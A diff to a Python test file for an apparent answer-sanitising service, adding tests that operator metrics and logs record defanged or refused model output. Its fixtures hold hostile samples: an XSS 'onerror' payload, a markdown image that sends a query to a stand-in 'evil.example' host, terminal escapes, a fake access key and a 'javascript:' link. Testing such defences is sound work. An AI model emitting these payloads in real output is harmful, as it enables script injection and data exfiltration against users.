@@ -7,7 +7,7 @@ import pytest
 from tests.providers_e2e.conftest import Serve
 from tests.support.model_server import ModelServer
 from tests.support.service import OTHER_API_KEY, Service
-from tests.support.traffic import ROOT, body, events, new_text, post, said, streamed
+from tests.support.traffic import ROOT, body, events, metric, new_text, post, said, streamed
 
 HARMFUL = "Late.\x1b[2J <img src=x onerror=alert(1)> ![x](https://evil.example/?q=tea) AKIAQ3ZT7MNB2XKWPLDV"
 HARMLESS = "Late.\u241b[2J &lt;img src=x onerror=alert(1)> ![x](hxxps://evil.example/?q=tea) (secret)"
@@ -31,6 +31,65 @@ def test_a_harmful_answer_is_made_harmless_as_a_whole_and_inside_a_type(service:
     assert post(service, body("qa")).json()["result"] == HARMLESS
     model.behave(text=json.dumps([HARMFUL] * 5))
     assert set(post(service, body("key_points")).json()["result"]) == {HARMLESS}
+
+
+def inspected(service: Service) -> dict[tuple[str, str], float]:
+    """How often inspection has found what, by verdict and kind."""
+    found = (("mended", kind) for kind in ("address", "script", "markup", "control", "secret"))
+    whole = (*found, ("refused", "secret"), ("refused", "instructions"))
+    return {
+        (verdict, kind): metric(service, "inspected_answers_total", verdict=verdict, kind=kind)
+        for verdict, kind in whole
+    }
+
+
+def news(before: dict[tuple[str, str], float], after: dict[tuple[str, str], float]) -> dict[tuple[str, str], float]:
+    return {found: after[found] - before[found] for found in after if after[found] != before[found]}
+
+
+@pytest.mark.parametrize("path", ["process", "stream"])
+def test_an_operator_sees_once_what_an_answer_held_and_not_the_answer(
+    service: Service, model: ModelServer, path: str
+) -> None:
+    model.behave(text=HARMFUL)
+    before, log = inspected(service), service.output()
+    post(service, body("qa"), path)
+    kinds = {"address", "markup", "control", "secret"}
+    assert news(before, inspected(service)) == {("mended", kind): 1 for kind in kinds}
+    logged = service.output().removeprefix(log)
+    assert logged.count("inspected: mended for address in ") == 1
+    assert "evil.example" not in logged
+
+
+@pytest.mark.parametrize("path", ["process", "stream"])
+def test_an_operator_sees_what_was_refused(service: Service, model: ModelServer, path: str) -> None:
+    attempts = 2 if path == "process" else 1
+    for kind, behaviour in (
+        ("secret", {"text": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n"}),
+        ("instructions", {"leak": True}),
+    ):
+        model.behave(**behaviour)
+        before = inspected(service)
+        post(service, body("qa"), path)
+        assert news(before, inspected(service)) == {("refused", kind): attempts}
+
+
+@pytest.mark.parametrize("path", ["process", "stream"])
+def test_an_ordinary_answer_is_no_finding(service: Service, model: ModelServer, path: str) -> None:
+    before = inspected(service)
+    assert post(service, body("qa"), path).status_code == 200
+    assert inspected(service) == before
+
+
+@pytest.mark.parametrize("path", ["process", "stream"])
+def test_an_offline_answer_that_stands_in_is_made_harmless_too(service: Service, model: ModelServer, path: str) -> None:
+    model.behave(fail={"status": 503, "retry_after": 0})
+    text = f"{new_text()} The [menu](javascript:order(1)) \x1b[2J was long."
+    before = inspected(service)
+    answer = post(service, body("summarize", text), path).text
+    assert '"source":"offline"' in answer
+    assert "[menu](unsafe:javascript:order(1)) \u241b[2J was long." in answer
+    assert news(before, inspected(service)) == {("mended", "script"): 1, ("mended", "control"): 1}
 
 
 @pytest.mark.parametrize("path", ["process", "stream"])
